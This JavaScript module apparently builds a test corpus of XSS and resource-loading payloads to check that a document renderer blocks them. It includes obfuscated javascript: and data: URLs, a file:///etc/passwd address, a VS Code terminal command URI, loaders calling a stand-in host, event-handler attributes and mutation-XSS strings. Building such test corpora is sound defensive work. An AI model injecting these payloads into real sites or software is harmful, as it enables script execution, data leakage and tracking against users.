// What people write to make a page run a script or load something: a public list, and every combination of the parts that such lists
// are made of, so that none is missing because nobody thought of it.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from '../host/project.mjs';

/** The Big List of Naughty Strings by Max Woolf and others, under the MIT licence. */
const PUBLIC_LIST = join(root, 'node_modules', 'big-list-of-naughty-strings', 'blns.txt');

/** Nobody is there; whatever asks for it has escaped. */
const ELSEWHERE = 'https://elsewhere.test';
const RUN = 'alert(1)';

const EVENTS =
  `abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste
  beforetoggle begin blur bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy
  cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error finish focus
  focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata
  loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
  mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
  pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend search seeked seeking
  select selectionchange selectstart show stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove
  touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
  webkitanimationend webkitanimationstart webkitmouseforcechanged webkittransitionend wheel`.split(/\s+/);

/** Addresses that run something, show something of the machine, or tell somebody that the document was read. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript&#0;:${RUN}`,
  `\u200bjavascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3A;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${RUN}</x:script>`,
  'file:///etc/passwd',
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D',
  'vscode:extension/somebody.something',
  'vscode-file://vscode-app/etc/passwd',
  'blob:null/0',
  'about:blank',
  'filesystem:https://elsewhere.test/temporary/x',
  `${ELSEWHERE}/x.png`,
  `http://elsewhere.test/x.svg#x`,
  '//elsewhere.test/x.png',
  '/\\elsewhere.test/x.png',
  '\\\\elsewhere.test\\x.png',
  'https:elsewhere.test/x.png',
  'ht\ntps://elsewhere.test/x.png',
  'ftp://elsewhere.test/x.png',
  'ws://elsewhere.test/',
];

/** How an address gets into a document besides being one of its words, `@` being the address. */
const CARRIERS = ['@', '[a](<@>)', '<@>', '<a href="@"><img src="@"></a>'];

/** Elements that load or run their address as soon as they are there. */
const LOADERS = [
  '<script src="@"></script>',
  '<script type="module">import "@"</script>',
  '<iframe src="@"></iframe>',
  '<frameset><frame src="@"></frameset>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<object><param name="src" value="@"></object>',
  '<applet archive="@"></applet>',
  '<link rel="stylesheet" href="@">',
  '<link rel="prefetch" href="@">',
  '<link rel="preconnect" href="@">',
  '<style>@import "@";</style>',
  '<style>*{background:url("@")}</style>',
  '<p style="background:url(@)">a</p>',
  '<p style="list-style-image:url(@);display:list-item">a</p>',
  '<meta http-equiv="refresh" content="0;url=@">',
  '<base href="@"><img src="x.png">',
  '<video poster="@"></video>',
  '<video src="@"></video>',
  '<audio src="@"></audio>',
  '<video><source src="@"></video>',
  '<video><track default src="@"></video>',
  '<picture><source srcset="@"><img src="x.png"></picture>',
  '<input type="image" src="@">',
  '<body background="@">',
  '<table background="@"><tr><td background="@">a</td></tr></table>',
  '<svg><use href="@"></use></svg>',
  '<svg><script href="@"></script></svg>',
  '<svg><feImage href="@"></feImage></svg>',
  '<form action="@"><input autofocus onfocus="this.form.submit()"></form>',
  '<form><button formaction="@" autofocus>a</button></form>',
  '<a href="https://example.com" ping="@">a</a>',
  '<math href="@">a</math>',
  '<portal src="@"></portal>',
];

/** Elements that a handler is at home in, `@` being the attribute. */
const HOSTS = [
  '<img src=x @>',
  '<svg @></svg>',
  '<details open @><summary>a</summary>b</details>',
  '" @ x="',
  "' @ x='",
];

/** What parsers understand differently the second time, or only in odd surroundings. */
const PUZZLES = `
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>a</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<textarea></textarea><img src=x onerror=alert(1)>
<title></title><script>alert(1)</script>
<xmp></xmp><script>alert(1)</script>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><option><style></option></select><b><script>alert(1)</script></style></b>
<table><td><script>alert(1)</script><a><table><script>alert(1)</script></table></a></td></table>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<script>alert(1)
<script >alert(1)</script >
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<ſcript>alert(1)</ſcript>
＜script＞alert(1)＜/script＞
<img src=x:x onerror&#0;=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert\`1\`>
<img src=x onerror="&#97;lert(1)">
<img src=x oNeRrOr=alert(1) x>
<img """><script>alert(1)</script>">
<img src=x onerror=alert(1)
<<script>alert(1)//<</script>
<a href="x" id=postmortem>a</a>
<img name=getElementById src=x>
<form id=notice><input name=textContent></form>
<a id=acquireVsCodeApi></a><a id=acquireVsCodeApi name=x></a>
<p data-line="0" class="fix">Change to 11:16</p>
<p data-key="document" data-line="999999999">a</p>
<div class="cursor-line" data-line="-1e400">a</div>
</div></article></body></html><script>alert(1)</script>
</title></style></textarea></noscript></template></script><script>alert(1)</script>
\`\`\`"><script>alert(1)</script>
\`\`\`js" onmouseover="alert(1)
\`<img src=x onerror=alert(1)>\`
[a](x "\\"><img src=x onerror=alert(1)>")
[a](x '"onmouseover="alert(1)')
![a"onerror="alert(1)](x.png)
![<img src=x onerror=alert(1)>](x.png)
[<img src=x onerror=alert(1)>](x)
[a][b"onclick="alert(1)]
[a]: javascript:alert(1) "b"
[^1]: <script>alert(1)</script>
<https://example.com/"onclick="alert(1)">
<mailto:a@b.c"onclick="alert(1)>
https://example.com/"onmouseover="alert(1)
www.example.com/<img src=x onerror=alert(1)>
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
<%= alert(1) %>
$\\href{javascript:alert(1)}{a}$
`
  .split('\n')
  .filter((line) => line !== '');

/** @returns the strings about scripts of the public list */
export function publicPayloads() {
  const lines = readFileSync(PUBLIC_LIST, 'utf8').split('\n');
  const from = lines.findIndex((line) => /^#\s+Script Injection/.test(line));
  const to = lines.findIndex((line) => /^#\s+SQL Injection/.test(line));
  return lines.slice(from, to).filter((line) => line !== '' && !/^#\s/.test(line));
}

/** Every address in every carrier, every loader, every handler in a host, and the puzzles. */
export function madePayloads() {
  const put = (/** @type {string} */ carrier, /** @type {string} */ what) => carrier.replaceAll('@', () => what);
  return [
    ...ADDRESSES.flatMap((address) => CARRIERS.map((carrier) => put(carrier, address))),
    ...LOADERS.map((loader, at) => put(loader, at % 2 === 0 ? `${ELSEWHERE}/x` : `javascript:${RUN}`)),
    ...EVENTS.map((event, at) => put(HOSTS[at % HOSTS.length] ?? '', `on${event}=${RUN}`)),
    ...PUZZLES,
  ];
}
